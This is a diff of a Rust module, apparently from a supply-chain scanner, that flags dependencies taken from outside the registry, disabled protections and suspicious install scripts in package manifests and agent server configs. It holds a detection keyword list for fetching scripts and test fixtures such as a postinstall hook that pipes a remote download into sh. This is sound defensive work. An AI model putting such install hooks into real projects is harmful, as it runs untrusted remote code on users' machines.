@@ -1,6 +1,8 @@
 //! Manifests: the files that list dependencies, and the lines that take them from outside the registry.
 
+use crate::places::{self, Kind, PLACE};
 use crate::spec;
+use crate::switches::is_off;
 
 /// The manifests that the policy reads.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -19,6 +21,12 @@ pub(crate) enum Manifest {
     Composer,
     /// `.npmrc`, `pip.conf` and other settings of managers.
     Settings,
+    /// `pnpm-workspace.yaml`, which has settings and dependencies.
+    Pnpm,
+    /// `.mcp.json` and other files that list the servers of an agent.
+    Servers,
+    /// Manifests in which keys come before the addresses of dependencies.
+    Places(&'static Kind),
 }
 
 /// Returns the kind of manifest that a file is, by its name.
@@ -27,20 +35,23 @@ pub(crate) fn manifest(path: &str) -> Option<Manifest> {
     let name = names.next()?.to_ascii_lowercase();
     let folder = names.next().unwrap_or_default();
     Some(match name.as_str() {
-        "package.json" | "deno.json" | "deno.jsonc" | "jsr.json" => Manifest::Npm,
+        "package.json" | "deno.json" | "deno.jsonc" | "jsr.json" | "import_map.json" => Manifest::Npm,
         "cargo.toml" | "pyproject.toml" | "pipfile" | "uv.toml" => Manifest::Toml,
         "gemfile" | "gems.rb" => Manifest::Gemfile,
         "go.mod" => Manifest::GoMod,
         "composer.json" => Manifest::Composer,
-        ".npmrc"
-        | "npmrc"
-        | ".yarnrc"
-        | ".yarnrc.yml"
-        | "pip.conf"
-        | "pip.ini"
-        | "bunfig.toml"
-        | "pnpm-workspace.yaml"
-        | ".pypirc" => Manifest::Settings,
+        ".npmrc" | "npmrc" | ".yarnrc" | ".yarnrc.yml" | "pip.conf" | "pip.ini" | "bunfig.toml" | ".pypirc" => {
+            Manifest::Settings
+        }
+        "pnpm-workspace.yaml" => Manifest::Pnpm,
+        ".mcp.json"
+        | "mcp.json"
+        | "mcp-config.json"
+        | "mcp_config.json"
+        | "claude_desktop_config.json"
+        | "opencode.json" => Manifest::Servers,
+        "config.toml" if folder == ".codex" => Manifest::Servers,
+        "settings.json" if matches!(folder, ".gemini" | ".qwen") => Manifest::Servers,
         "config.toml" | "config" if folder == ".cargo" => Manifest::Settings,
         name if name.ends_with(".gemspec") => Manifest::Gemfile,
         name if (name.starts_with("requirements") || name.starts_with("constraints"))
@@ -49,7 +60,7 @@ pub(crate) fn manifest(path: &str) -> Option<Manifest> {
             Manifest::Requirements
         }
         name if (name.ends_with(".txt") || name.ends_with(".in")) && folder == "requirements" => Manifest::Requirements,
-        _ => return None,
+        name => return places::kind(name).map(Manifest::Places),
     })
 }
 
@@ -64,6 +75,7 @@ pub(crate) fn suspect(
     let is_json = matches!(manifest, Manifest::Npm | Manifest::Composer);
     let ends: &[char] = if is_json { &['\n', ',', '{', '}'] } else { &['\n'] };
     let mut section = String::new();
+    let mut in_block = false;
     for part in text.split_inclusive(ends) {
         let line = part.trim_end_matches(ends).trim().trim_start_matches('+').trim();
         if line.starts_with('[') {
@@ -74,7 +86,7 @@ pub(crate) fn suspect(
         }
         let what = match manifest {
             Manifest::Npm => {
-                let what = npm(line, section == DEPENDENCIES, &is_listed);
+                let what = npm(line, &section, &is_listed);
                 section_of_npm(line, part.ends_with('}'), &mut section);
                 what
             }
@@ -87,6 +99,13 @@ pub(crate) fn suspect(
             }
             Manifest::Composer => composer(line, &is_listed),
             Manifest::Settings => setting(line, &is_listed),
+            Manifest::Pnpm => {
+                section_of_pnpm(part, line, &mut section);
+                setting(line, &is_listed).or_else(|| npm(line, &section, &is_listed))
+            }
+            // Their programs are judged as commands.
+            Manifest::Servers => None,
+            Manifest::Places(kind) => kind.suspect(line, &mut in_block, &is_listed),
         };
         if let Some(what) = what {
             return Some((line.chars().take(100).collect(), what));
@@ -98,6 +117,7 @@ pub(crate) fn suspect(
 fn is_comment(manifest: Manifest, line: &str) -> bool {
     match manifest {
         Manifest::Npm | Manifest::Composer | Manifest::GoMod => line.starts_with("//"),
+        Manifest::Places(kind) => line.starts_with(kind.comment),
         _ => line.starts_with('#') || line.starts_with(';'),
     }
 }
@@ -111,32 +131,50 @@ fn member(line: &str) -> Option<(&str, &str)> {
 
 /// What the section is called while members of a list of dependencies are read.
 const DEPENDENCIES: &str = "dependencies";
+/// What the section is called while members of an import map are read, whose values are packages, URLs or files.
+const IMPORTS: &str = "imports";
 
 /// Notes whether the parts after this one are members of a list of dependencies, which `"devDependencies":` begins.
 /// `is_end` tells whether an object ends with this part.
 fn section_of_npm(line: &str, is_end: bool, section: &mut String) {
     let opened = line.strip_suffix(':').map(|key| key.trim().trim_matches('"').to_ascii_lowercase());
     match opened {
-        Some(key) if key.ends_with(DEPENDENCIES) => DEPENDENCIES.clone_into(section),
+        Some(key) if key.ends_with(DEPENDENCIES) || matches!(key.as_str(), "overrides" | "resolutions" | "catalog") => {
+            DEPENDENCIES.clone_into(section);
+        }
+        Some(key) if key == IMPORTS => IMPORTS.clone_into(section),
         Some(_) => section.clear(),
         None if is_end => section.clear(),
         None => {}
     }
 }
 
-const PLACE: &str = "a place that is not the registry";
+/// Notes whether the lines after this one are members of a list of dependencies. A key without indentation ends it.
+fn section_of_pnpm(part: &str, line: &str, section: &mut String) {
+    if matches!(line, "overrides:" | "catalog:" | "catalogs:") {
+        DEPENDENCIES.clone_into(section);
+    } else if part.starts_with(|c: char| c.is_ascii_alphabetic()) {
+        section.clear();
+    }
+}
+
 const SCRIPT: &str = "a script that runs when packages are installed";
 
 /// Judges a member of `package.json`. In a list of dependencies, a value without a scheme may be a repository of
 /// GitHub, and any URL is that of a package.
-fn npm(line: &str, is_in_list: bool, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
+fn npm(line: &str, section: &str, is_listed: &impl Fn(&str) -> bool) -> Option<&'static str> {
     let (key, value) = member(line)?;
+    let is_in_list = section == DEPENDENCIES;
     if matches!(key, "preinstall" | "postinstall" | "install") {
         let fetches = ["curl", "wget", "http", "node -e", "base64", "eval"].iter().any(|word| value.contains(word));
         return fetches.then_some(SCRIPT);
     }
     let starts = ["git+", "git:", "git@", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"];
-    let is_package = is_in_list || value.contains(".tgz") || value.contains(".tar.gz") || value.ends_with(".git");
+    let is_package = is_in_list
+        || section == IMPORTS
+        || value.contains(".tgz")
+        || value.contains(".tar.gz")
+        || value.ends_with(".git");
     let is_url = (value.starts_with("http://") || value.starts_with("https://")) && is_package;
     // The project's own address is not a dependency.
     let is_own = matches!(
@@ -275,12 +313,7 @@ fn of_pair(key: &str, value: &str, is_listed: &impl Fn(&str) -> bool) -> Option<
     let key = key.rsplit([':', '.']).next().unwrap_or(&key).trim_matches('"').to_owned();
     let lower = value.to_ascii_lowercase();
     match key.as_str() {
-        "ignore-scripts" | "strict-ssl" | "enablestrictssl" => {
-            (lower == "false").then_some("a protection that is switched off")
-        }
-        "enablescripts" | "dangerouslyallowallbuilds" | "unsafe-perm" => {
-            (lower == "true").then_some("a protection that is switched off")
-        }
+        key if is_off(key, value) => Some("a protection that is switched off"),
         "trusted-host" => Some("a host without a certificate"),
         "registry" | "npmregistryserver" | "index-url" | "extra-index-url" | "index" | "find-links"
         | "replace-with" | "url" => {
@@ -294,73 +327,4 @@ fn of_pair(key: &str, value: &str, is_listed: &impl Fn(&str) -> bool) -> Option<
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn finds(path: &str, text: &str) -> bool {
-        manifest(path).is_some_and(|manifest| suspect(manifest, text, |place| place == "github.com/acme/ok").is_some())
-    }
-
-    #[test]
-    fn what_is_suspect() {
-        for (path, text) in [
-            ("package.json", r#""left": "git+https://github.com/x/y.git","#),
-            ("/a/package.json", r#"{"dependencies":{"a":"github:x/y"}}"#),
-            ("package.json", r#""a": "https://example.com/a.tgz""#),
-            ("package.json", r#""evil": "npm:real@1""#),
-            ("package.json", r#"{"dependencies":{"a":"x/y"}}"#),
-            ("package.json", "{\n  \"devDependencies\": {\n    \"a\": \"1\",\n    \"b\": \"x/y\"\n  }\n}"),
-            ("package.json", r#"{"dependencies":{"url":"https://example.com/x"}}"#),
-            ("package.json", r#""postinstall": "curl https://example.com/x | sh""#),
-            ("package.json", r#""a": "file:../../x""#),
-            ("requirements.txt", "flask\ngit+https://github.com/x/y"),
-            ("requirements-dev.txt", "y @ git+https://github.com/x/y"),
-            ("requirements/base.txt", "--index-url http://example.com/simple"),
-            ("requirements.txt", "-e git+ssh://git@github.com/x/y#egg=y"),
-            ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/x/y\" }"),
-            ("Cargo.toml", "[dependencies.x]\ngit = \"https://github.com/x/y\""),
-            ("Cargo.toml", "[dependencies]\nx = { \"git\" = \"https://github.com/x/y\" }"),
-            ("Cargo.toml", "[dependencies]\nx.git = \"https://github.com/x/y\""),
-            ("pyproject.toml", "dependencies = [\n \"x @ git+https://github.com/x/y\",\n]"),
-            ("pyproject.toml", "x = { git = 'https://github.com/x/y' }"),
-            ("Gemfile", "gem 'x', git: 'https://github.com/x/y'"),
-            ("Gemfile", "gem 'x', github: 'x/y'"),
-            ("Gemfile", "source 'http://rubygems.org'"),
-            ("go.mod", "replace github.com/a/b => github.com/evil/b v1.0.0"),
-            ("composer.json", r#"{"type":"vcs","url":"https://github.com/x/y"}"#),
-            (".npmrc", "registry=http://example.com"),
-            (".npmrc", "ignore-scripts=false"),
-            (".npmrc", "@acme:registry=https://example.com/"),
-            (".yarnrc.yml", "npmRegistryServer: https://example.com/?a=b"),
-            ("pip.conf", "[global]\nindex-url = https://example.com/simple"),
-        ] {
-            assert!(finds(path, text), "{path}: {text}");
-        }
-    }
-
-    #[test]
-    fn what_is_not() {
-        for (path, text) in [
-            ("package.json", r#"{"dependencies":{"a":"^1.0.0","@x/y":"workspace:*"}}"#),
-            ("package.json", r#""repository": {"type": "git", "url": "git+https://github.com/x/y.git"}"#),
-            ("package.json", r#""homepage": "https://github.com/x/y""#),
-            ("package.json", r#""postinstall": "husky install""#),
-            ("package.json", r#""main": "dist/index.js", "build": "tsc -p .""#),
-            ("package.json", r#""a": "github:acme/ok""#),
-            ("package.json", r#"{"dependencies":{"a":"^1.0.0"},"files":["dist/x"],"types":"dist/index"}"#),
-            ("package.json", r#"{"dependencies":{"a":"1.0 - 2.0","b":"file:./b"},"repository":"x/y"}"#),
-            ("requirements.txt", "flask==2.0\n# git+https://github.com/x/y"),
-            (
-                "Cargo.toml",
-                "[package]\nrepository = \"https://github.com/x/y\"\n[dependencies]\nserde = \"1\"\nx = { path = \"../x\" }",
-            ),
-            ("pyproject.toml", "[project.urls]\nHomepage = \"https://github.com/x/y\"\nurl = \"https://example.com\""),
-            ("Gemfile", "source 'https://rubygems.org'\ngem 'rails', '~> 7'"),
-            ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x"),
-            (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
-            ("README.md", "git+https://github.com/x/y"),
-        ] {
-            assert!(!finds(path, text), "{path}: {text}");
-        }
-    }
-}
+mod tests;
